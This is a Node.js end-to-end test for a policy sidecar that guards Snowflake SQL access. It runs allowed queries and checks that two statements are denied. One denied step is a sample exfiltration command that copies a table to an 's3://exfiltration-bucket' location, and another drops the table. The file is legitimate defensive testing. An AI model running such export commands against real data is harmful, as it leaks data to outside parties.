// The e2e pipeline: a Node program using the official snowflake-sdk, configured ONLY from the
// environment the snowtrail webhook injects (SNOWFLAKE_ACCOUNT/HOST/PORT/PROTOCOL/AUTHENTICATOR and
// SNOWFLAKE_TOKEN_FILE). It holds no Snowflake credential. It runs a few statements that the e2e
// policy allows and two it denies, prints one `E2E_STEP` line per statement and a final
// `E2E_RESULT` line, and exits non-zero when anything did not behave as a user would expect.
//
//   node pipeline.mjs --once          run the sequence once (the Job)
//   node pipeline.mjs --loop 10       run it every 10 s forever (the Deployment)
//   node pipeline.mjs --print-env     print which SNOWFLAKE_* variables exist (the un-annotated pod)
import { randomBytes } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import snowflake from 'snowflake-sdk';

const REQUIRED_ENV = ['SNOWFLAKE_ACCOUNT', 'SNOWFLAKE_HOST', 'SNOWFLAKE_PORT', 'SNOWFLAKE_PROTOCOL', 'SNOWFLAKE_AUTHENTICATOR', 'SNOWFLAKE_TOKEN_FILE'];

/**
 * The statements and what the user must see for each, on a table of the run's own: the Job and the
 * Deployment run at the same time against the same account and must not replace each other's table.
 */
export function steps(table) {
  return [
    { name: 'select_literal', sql: 'select 1 as x', expect: 'rows', check: (rows) => rows.length === 1 && Number(rows[0].X) === 1 },
    { name: 'create_table', sql: `create or replace table ${table} (id integer, amount integer)`, expect: 'ok' },
    { name: 'insert_rows', sql: `insert into ${table} (id, amount) values (1, 10), (2, 20), (3, 30)`, expect: 'ok' },
    { name: 'select_rows', sql: `select id, amount from ${table} order by id`, expect: 'rows', check: (rows) => rows.length === 3 && Number(rows[2].AMOUNT) === 30 },
    { name: 'export_denied', sql: `copy into 's3://exfiltration-bucket/orders/' from ${table}`, expect: 'denied' },
    { name: 'drop_denied', sql: `drop table ${table}`, expect: 'denied' },
  ];
}

/** Driver options built from the injected environment and nothing else. */
export function connectionOptionsFromEnv(env) {
  const missing = REQUIRED_ENV.filter((k) => !env[k]);
  if (missing.length > 0) throw new Error(`not injected: ${missing.join(', ')} missing (is the pod annotated snowtrail.dev/policy?)`);
  return {
    account: env.SNOWFLAKE_ACCOUNT,
    accessUrl: `${env.SNOWFLAKE_PROTOCOL}://${env.SNOWFLAKE_HOST}:${env.SNOWFLAKE_PORT}`,
    authenticator: env.SNOWFLAKE_AUTHENTICATOR,
    // Read on every connect: the kubelet rotates the projected token file.
    token: readFileSync(env.SNOWFLAKE_TOKEN_FILE, 'utf8').trim(),
  };
}

function connect(options) {
  const conn = snowflake.createConnection(options);
  return new Promise((resolve, reject) => conn.connect((err) => (err ? reject(err) : resolve(conn))));
}

function execute(conn, sqlText) {
  return new Promise((resolve, reject) => {
    conn.execute({ sqlText, complete: (err, _stmt, rows) => (err ? reject(err) : resolve(rows ?? [])) });
  });
}

function destroy(conn) {
  return new Promise((resolve) => conn.destroy(() => resolve()));
}

/** Runs every step; returns one outcome per step (never throws for a statement error). */
export async function runSequence(env) {
  const conn = await connect(connectionOptionsFromEnv(env));
  const outcomes = [];
  try {
    for (const step of steps(`e2e_orders_${randomBytes(4).toString('hex')}`)) {
      try {
        const rows = await execute(conn, step.sql);
        const ok = step.expect === 'ok' || (step.expect === 'rows' && step.check(rows));
        outcomes.push({ name: step.name, ok, outcome: 'executed', rows: rows.length });
      } catch (err) {
        // The sidecar denies with Snowflake's own access-control error: code 003001, "SQL access control error: …".
        const denied = String(err.code).replace(/^0+/, '') === '3001' || /^SQL access control error/.test(err.message);
        outcomes.push({ name: step.name, ok: step.expect === 'denied' && denied, outcome: denied ? 'denied' : 'failed', code: err.code, message: err.message });
      }
    }
  } finally {
    await destroy(conn);
  }
  return outcomes;
}

function report(outcomes) {
  for (const o of outcomes) console.log(`E2E_STEP ${JSON.stringify(o)}`);
  const result = {
    ok: outcomes.every((o) => o.ok),
    executed: outcomes.filter((o) => o.outcome === 'executed').length,
    denied: outcomes.filter((o) => o.outcome === 'denied').length,
    failed: outcomes.filter((o) => !o.ok).map((o) => o.name),
  };
  console.log(`E2E_RESULT ${JSON.stringify(result)}`);
  return result.ok;
}

async function main(argv) {
  snowflake.configure({ logLevel: 'OFF' });
  if (argv.includes('--print-env')) {
    // Only what the webhook injects: the image itself sets SNOWFLAKE_DISABLE_PLATFORM_DETECTION.
    const present = Object.keys(process.env).filter((k) => REQUIRED_ENV.includes(k) || k.startsWith('SNOWTRAIL_')).sort();
    console.log(`E2E_ENV ${JSON.stringify(present)}`);
    return 0;
  }
  const loop = argv.indexOf('--loop');
  if (loop >= 0) {
    const seconds = Number(argv[loop + 1] ?? 10);
    for (;;) {
      try {
        report(await runSequence(process.env));
      } catch (err) {
        console.log(`E2E_RESULT ${JSON.stringify({ ok: false, error: err.message, code: err.code })}`);
      }
      await sleep(seconds * 1000);
    }
  }
  try {
    return report(await runSequence(process.env)) ? 0 : 1;
  } catch (err) {
    console.log(`E2E_RESULT ${JSON.stringify({ ok: false, error: err.message, code: err.code })}`);
    return 1;
  }
}

if (import.meta.url === `file://${process.argv[1]}`) {
  process.exitCode = await main(process.argv.slice(2));
}
